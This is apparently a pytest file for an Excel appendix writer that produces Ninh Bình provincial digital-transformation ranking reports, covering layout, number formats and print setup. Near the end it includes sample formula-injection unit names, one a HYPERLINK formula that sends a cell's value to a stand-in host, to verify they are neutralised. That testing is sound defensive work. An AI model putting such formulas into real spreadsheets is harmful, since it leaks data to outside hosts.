"""The appendix workbook, read back with openpyxl: the layout `dti check` reads (sheets, title
block, labels, hidden codes, one row per unit, notes, the `_dti` sheet), real numbers equal to
the snapshot's with their number formats, frozen panes, and the print setup of Nghị định 30."""

from __future__ import annotations

import datetime
import io
import random
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from dti.documents.appendix import build_appendix
from dti.documents.content import Column, Document, Heading, Row, Table
from dti.documents.xlsx import INDEX_SHEET, number_format, write_xlsx
from dti.engine import check_appendix, read_appendix, to_decimal
from tests.documents.appendix_data import GROUP, PERCENT_ROWS, ninh_binh, percent_files, snapshot_of

ISSUER = "ỦY BAN NHÂN DÂN TỈNH NINH BÌNH"
MM = 25.4  # millimetres per inch


def workbook(document: Document) -> openpyxl.Workbook:
    buffer = io.BytesIO()
    write_xlsx(document, buffer)
    buffer.seek(0)
    return openpyxl.load_workbook(buffer)


def codes_row(sheet: Worksheet) -> int:
    """The row of column codes, found as the reader finds it: the first with a `unit` cell."""
    return next(r[0].row for r in sheet.iter_rows() if any(c.value == "unit" for c in r))


def records(sheet: Worksheet) -> list[dict[str, object]]:
    """The unit rows under the codes row, by code, up to the first blank row."""
    row = codes_row(sheet)
    codes = [c.value for c in sheet[row]]
    out = []
    for values in sheet.iter_rows(min_row=row + 1, values_only=True):
        if all(v is None for v in values):
            break
        out.append(dict(zip(codes, values, strict=False)))
    return out


def figure(value: object) -> Decimal | None:
    return None if value is None else to_decimal(value)


def text(sheet: Worksheet) -> list[str]:
    return [str(c.value) for r in sheet.iter_rows() for c in r if isinstance(c.value, str)]


@pytest.fixture(scope="module")
def nb() -> tuple[Document, openpyxl.Workbook]:
    _, snapshot = ninh_binh()
    document = build_appendix(snapshot, heading=Heading(issuer=ISSUER))
    return document, workbook(document)


def test_one_sheet_per_table_and_the_hidden_list_of_tables(nb: tuple[Document, openpyxl.Workbook]) -> None:
    document, book = nb
    assert book.sheetnames == [t.key for t in document.tables()] + [INDEX_SHEET]
    listing = book[INDEX_SHEET]
    assert listing.sheet_state == "hidden"
    rows = list(listing.iter_rows(values_only=True))
    assert rows[0] == ("sheet", "kind", "group", "index", "framework")
    assert rows[1] == ("Tổng hợp", "overall", "huyen", None, "ninh-binh-2023-huyen")
    assert rows[2:] == [(c, "index", "huyen", c, "ninh-binh-2023-huyen") for c in "12345678"]


def test_every_figure_is_a_real_number_equal_to_the_snapshots(nb: tuple[Document, openpyxl.Workbook]) -> None:
    _, book = nb
    _, snapshot = ninh_binh()
    units = {u["unit"]: u for u in snapshot["groups"][0]["units"]}
    overall = records(book["Tổng hợp"])
    assert [r["unit"] for r in overall] == [u["unit"] for u in snapshot["groups"][0]["units"]]
    for record in overall:
        unit = units[str(record["unit"])]
        for code in "12345678":
            assert isinstance(record[code], int | float)
            assert figure(record[code]) == Decimal(unit["indices"][code] or "x")
        assert figure(record["total"]) == Decimal(unit["total"] or "x")
        assert record["rank"] == unit["rank"]
    for code in "12345678":
        for record in records(book[code]):
            unit = units[str(record["unit"])]
            assert figure(record[code]) == Decimal(unit["indices"][code] or "x")
            items = [k for k in record if isinstance(k, str) and k.startswith(f"{code}.")]
            assert items and all(figure(record[i]) == Decimal(unit["items"][i] or "x") for i in items)
            assert isinstance(record[f"rank:{code}"], int)


def test_layout_title_header_hidden_codes_and_frozen_panes(nb: tuple[Document, openpyxl.Workbook]) -> None:
    document, book = nb
    sheet = book["Tổng hợp"]
    codes = codes_row(sheet)
    header = [c.value for c in sheet[codes - 1]]
    assert header[:3] == ["STT", "Đơn vị", "1. Nhận thức số"] and header[-2:] == ["Tổng điểm", "Xếp hạng"]
    assert sheet.row_dimensions[codes].hidden
    assert not sheet.row_dimensions[codes - 1].hidden
    assert sheet.freeze_panes == f"C{codes + 1}"  # under the header, after the unit column
    top = [sheet.cell(row, 1).value for row in range(1, codes - 1)]
    assert top[:5] == [
        ISSUER,
        "PHỤ LỤC I",
        "KẾT QUẢ ĐÁNH GIÁ, XẾP HẠNG CHỈ SỐ CHUYỂN ĐỔI SỐ NĂM 2023",
        document.blocks[2].text,  # type: ignore[union-attr]
        "Đánh giá theo: Bộ chỉ số đánh giá chuyển đổi số cấp huyện tỉnh Ninh Bình",
    ]
    assert "Quyết định số       /QĐ-UBND ngày       /" in str(top[3])  # blanks of an unsigned decision
    attached = sheet.cell(4, 1).font  # "(Kèm theo Quyết định …)" in italics, as Nghị định 30 sets it
    assert attached.italic and not attached.bold
    assert sheet.cell(2, 1).font.bold and not sheet.cell(2, 1).font.italic
    assert top[5] == "I. Kết quả đánh giá chung"
    assert "DỰ THẢO" not in text(sheet)
    assert sheet.cell(1, 1).font.name == "Times New Roman" and sheet.cell(1, 1).font.bold
    assert sheet.cell(codes - 1, 3).font.bold and sheet.cell(codes - 1, 3).alignment.wrap_text
    assert all(sheet.cell(codes + 1, n).font.name == "Times New Roman" for n in range(1, 13))
    assert "A1:L1" in {str(r) for r in sheet.merged_cells.ranges}


def test_number_formats_at_each_columns_decimals(nb: tuple[Document, openpyxl.Workbook]) -> None:
    _, book = nb
    sheet = book["Tổng hợp"]
    first = codes_row(sheet) + 1
    formats = [sheet.cell(first, n).number_format for n in range(1, 13)]
    assert formats == ["#,##0", "General", *["#,##0.00"] * 9, "#,##0"]
    assert number_format(1) == "#,##0.0" and number_format(0) == "#,##0"


def test_column_widths_fit_the_names_and_the_numbers(nb: tuple[Document, openpyxl.Workbook]) -> None:
    _, book = nb
    sheet = book["Tổng hợp"]
    longest = max(len(str(r["unit"])) for r in records(sheet))
    assert longest < sheet.column_dimensions["B"].width <= longest + 4
    assert 8 <= (sheet.column_dimensions["K"].width or 0) <= 16  # "605,21" under a wrapped "Tổng điểm"


def test_print_setup_of_the_administrative_format(nb: tuple[Document, openpyxl.Workbook]) -> None:
    _, book = nb
    for sheet in book.worksheets[:-1]:
        codes = codes_row(sheet)
        assert sheet.page_setup.paperSize == 9  # A4
        assert sheet.page_setup.orientation == "landscape"
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
        assert sheet.print_title_rows == f"${codes - 1}:${codes}"
        top, bottom, left, right = (
            round(m * MM, 6)
            for m in (
                sheet.page_margins.top,
                sheet.page_margins.bottom,
                sheet.page_margins.left,
                sheet.page_margins.right,
            )
        )
        assert 20 <= top <= 25 and 20 <= bottom <= 25 and 30 <= left <= 35 and 15 <= right <= 20
        # The page number centred at the top from page 2: none on the first page.
        assert sheet.HeaderFooter.differentFirst
        assert sheet.oddHeader.center.text == "&P"
        assert "&P" not in str(sheet.firstHeader.center.text) and sheet.firstHeader.center.text is not None


def test_percent_ranking_workbook_with_marks_notes_na_and_draft(tmp_path: Path) -> None:
    _, snapshot = snapshot_of(*percent_files(tmp_path))
    heading = Heading(issuer=ISSUER, number="125/QĐ-UBND", date=datetime.date(2024, 3, 5))
    document = build_appendix(snapshot, heading=heading, draft=True)
    target = tmp_path / "phu-luc.xlsx"
    write_xlsx(document, target)
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == ["Tổng hợp", "I", "II", INDEX_SHEET]
    overall = book["Tổng hợp"]
    assert overall.page_setup.orientation == "portrait"
    units = {u["unit"]: u for u in snapshot["groups"][0]["units"]}
    rows = records(overall)
    assert [r["stt"] for r in rows] == [1, 2, "3 (*)", "4 (**)", 5]
    for record in rows:
        unit = units[str(record["unit"])]
        assert figure(record["max:total"]) == Decimal(unit["max"] or "x")
        assert figure(record["percent"]) == Decimal(unit["percent"] or "x")
        assert record["class"] == unit["class"]
        assert figure(record["DTI"]) == Decimal(unit["derived"]["DTI"] or "x")
    first = codes_row(overall) + 1
    codes = [c.value for c in overall[first - 1]]
    assert overall.cell(first, codes.index("percent") + 1).number_format == "#,##0.0"
    assert overall.cell(first, codes.index("DTI") + 1).number_format == "#,##0.0000"
    words = text(overall)
    assert "DỰ THẢO" in words
    assert any("Quyết định số 125/QĐ-UBND ngày 05/03/2024 của Ủy ban nhân dân tỉnh Ninh Bình" in w for w in words)
    notes = words[words.index("Ghi chú:") + 1 :]
    assert notes[:2] == [
        "(*) Điểm tối đa áp dụng: 80 (có chỉ số thành phần không áp dụng)",
        "(**) Điểm tối đa áp dụng: 60 (có chỉ số thành phần không áp dụng)",
    ]
    assert overall.oddHeader.right.text == "DỰ THẢO" and overall.firstHeader.right.text == "DỰ THẢO"
    index = records(book["I"])
    assert [r["I.3"] for r in index] == ["N/A", 20, 18.8, "N/A", 10]
    assert [r["percent:I"] for r in index] == [100, 100, 98, 95, 50]


def test_several_groups_name_their_sheets_and_tables(tmp_path: Path) -> None:
    rows = {GROUP: PERCENT_ROWS, "Huyện": [("UBND huyện A", "10", "10", "10", "10", "10")]}
    _, snapshot = snapshot_of(*percent_files(tmp_path, rows))
    book = workbook(build_appendix(snapshot, heading=Heading(issuer=ISSUER)))
    assert book.sheetnames == [
        "Sở, ban, ngành - Tổng hợp", "Sở, ban, ngành - I", "Sở, ban, ngành - II",
        "Huyện - Tổng hợp", "Huyện - I", "Huyện - II", INDEX_SHEET,
    ]  # fmt: skip
    listing = list(book[INDEX_SHEET].iter_rows(min_row=2, values_only=True))
    assert [r[2] for r in listing] == [GROUP] * 3 + ["Huyện"] * 3
    assert "Huyện: I. Kết quả đánh giá chung" in text(book["Huyện - Tổng hợp"])
    assert [r["unit"] for r in records(book["Huyện - II"])] == ["UBND huyện A"]


def test_bold_rows_empty_cells_and_no_issuer() -> None:
    table = Table(
        key="Bảng",
        title="Bình quân",
        columns=(Column("unit", "Đơn vị", None), Column("I", "I", 2)),
        rows=(Row(("A", None)), Row(("Bình quân", Decimal("1.5")), bold=True)),
    )
    document = Document(heading=Heading(issuer=""), blocks=(table,), title="Bảng")
    sheet = workbook(document)["Bảng"]
    assert sheet["A1"].value == "Bình quân"  # no blank line for an unknown issuer: the title first
    first = codes_row(sheet) + 1
    assert sheet.cell(first, 2).value is None and sheet.cell(first, 2).border.left.style == "thin"
    assert sheet.cell(first + 1, 2).font.bold and sheet.cell(first + 1, 2).number_format == "#,##0.00"


def test_three_hundred_units_written_as_xml_read_back_whole(tmp_path: Path) -> None:
    """The unit rows are written as XML into the saved sheets: every figure, the style of each
    column (number format, font, border), the notes' rows after the data, and `dti check`'s
    reader finding the tables as written."""
    rng = random.Random(11)
    scores = [str(n) for n in range(0, 21)] + ["18,8", "N/A"]
    rows = [
        (f"Đơn vị thử {n} & <cộng sự>" if n % 37 == 0 else f"Đơn vị thử {n}", *(rng.choice(scores) for _ in range(5)))
        for n in range(1, 301)
    ]
    framework_path, results_path = percent_files(tmp_path, {GROUP: rows})
    framework, snapshot = snapshot_of(framework_path, results_path)
    document = build_appendix(snapshot, heading=Heading(issuer=ISSUER))
    target = tmp_path / "phu-luc.xlsx"
    write_xlsx(document, target)
    book = openpyxl.load_workbook(target)
    units = {u["unit"]: u for u in snapshot["groups"][0]["units"]}
    overall = book["Tổng hợp"]
    records_ = records(overall)
    assert [r["unit"] for r in records_] == [u["unit"] for u in snapshot["groups"][0]["units"]]
    assert "Đơn vị thử 37 & <cộng sự>" in units
    for record in records_:
        unit = units[str(record["unit"])]
        assert figure(record["total"]) == Decimal(unit["total"] or "x")
        assert figure(record["percent"]) == Decimal(unit["percent"] or "x")
        assert record["rank"] == unit["rank"]
    for table in document.tables():
        sheet = book[table.key]
        first = codes_row(sheet) + 1
        for data, values in zip(table.rows, sheet.iter_rows(min_row=first, values_only=True), strict=False):
            assert [None if v is None else v if isinstance(v, str) else figure(v) for v in values] == list(data.cells)
        for number in range(first, first + len(table.rows), 29):
            for position, column in enumerate(table.columns, start=1):
                cell = sheet.cell(number, position)
                assert cell.number_format == (
                    number_format(column.decimals) if column.decimals is not None else "General"
                )
                assert cell.font.name == "Times New Roman" and cell.border.left.style == "thin"
        notes = first + len(table.rows) + 1  # a blank row, then "Ghi chú:"
        assert sheet.cell(notes, 1).value == ("Ghi chú:" if table.notes else None)
        assert [sheet.cell(notes + 1 + n, 1).value for n in range(len(table.notes))] == list(table.notes)
        assert sheet.max_row == (notes + len(table.notes) if table.notes else first + len(table.rows) - 1)
    assert "Ghi chú:" in text(overall)
    appendix = read_appendix(framework, target)
    assert [len(s.table.rows) for s in appendix.sheets] == [300] * len(document.tables())
    assert check_appendix(framework, appendix) == []


def test_unit_text_is_escaped_kept_with_its_spaces_and_without_control_characters() -> None:
    table = Table(
        key="Bảng",
        title="Văn bản",
        columns=(Column("unit", "Đơn vị", None), Column("I", "I", 2)),
        rows=(Row(("A & B <C>\x01", Decimal("1E+1"))), Row(("  thụt lề ", "N/A"))),
    )
    sheet = workbook(Document(heading=Heading(issuer=""), blocks=(table,), title="Bảng"))["Bảng"]
    first = codes_row(sheet) + 1
    assert [c.value for c in sheet[first]] == ["A & B <C>", 10]
    assert [c.value for c in sheet[first + 1]] == ["  thụt lề ", "N/A"]


FORMULA_NAMES = ['=HYPERLINK("http://x.example/?leak="&A2,"Xem")', "+1", "-x", "@SUM(A1)"]


def test_formula_unit_names_are_neutralised_and_read_back(tmp_path: Path) -> None:
    """Issue 10 §3: a unit name a spreadsheet would run is written (as XML text) with a leading
    apostrophe; `dti check`'s reader reads the name back and finds the tables consistent."""
    rows = [(name.replace('"', '""'), "10", "5", "18,8", "0", "N/A") for name in FORMULA_NAMES]  # the CSV's quotes
    framework_path, results_path = percent_files(tmp_path, {GROUP: rows})
    framework, snapshot = snapshot_of(framework_path, results_path)
    target = tmp_path / "phu-luc.xlsx"
    write_xlsx(build_appendix(snapshot, heading=Heading(issuer=ISSUER)), target)
    sheet = openpyxl.load_workbook(target)["Tổng hợp"]
    first = codes_row(sheet) + 1
    column = [c.value for c in sheet[first - 1]].index("unit") + 1
    cells = [sheet.cell(first + n, column) for n in range(len(FORMULA_NAMES))]
    assert sorted(cell.value for cell in cells) == sorted("'" + name for name in FORMULA_NAMES)
    assert all(cell.data_type == "s" for cell in cells)
    appendix = read_appendix(framework, target)
    assert sorted(row.unit for row in appendix.sheets[0].table.rows) == sorted(FORMULA_NAMES)
    assert check_appendix(framework, appendix) == []


def test_every_text_cell_is_neutralised_and_numbers_stay_numbers() -> None:
    """Unit rows (XML) and the cells openpyxl writes (labels, notes) alike; a negative figure is a number."""
    table = Table(
        key="Bảng",
        title="=Tiêu đề",
        columns=(Column("unit", "@Đơn vị", None), Column("I", "-I", 2)),
        rows=(Row(("\tx", Decimal("-1.5"))), Row(("\rx", "-"))),
        notes=("- ghi chú",),
    )
    sheet = workbook(Document(heading=Heading(issuer=""), blocks=(table,), title="Bảng"))["Bảng"]
    first = codes_row(sheet) + 1
    assert [c.value for c in sheet[first]] == ["'\tx", -1.5]
    assert [c.value for c in sheet[first + 1]] == ["'\nx", "'-"]  # XML reads a carriage return as a line feed
    assert [c.value for c in sheet[first - 2]] == ["'@Đơn vị", "'-I"]
    assert "'=Tiêu đề" in text(sheet) and "'- ghi chú" in text(sheet)
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
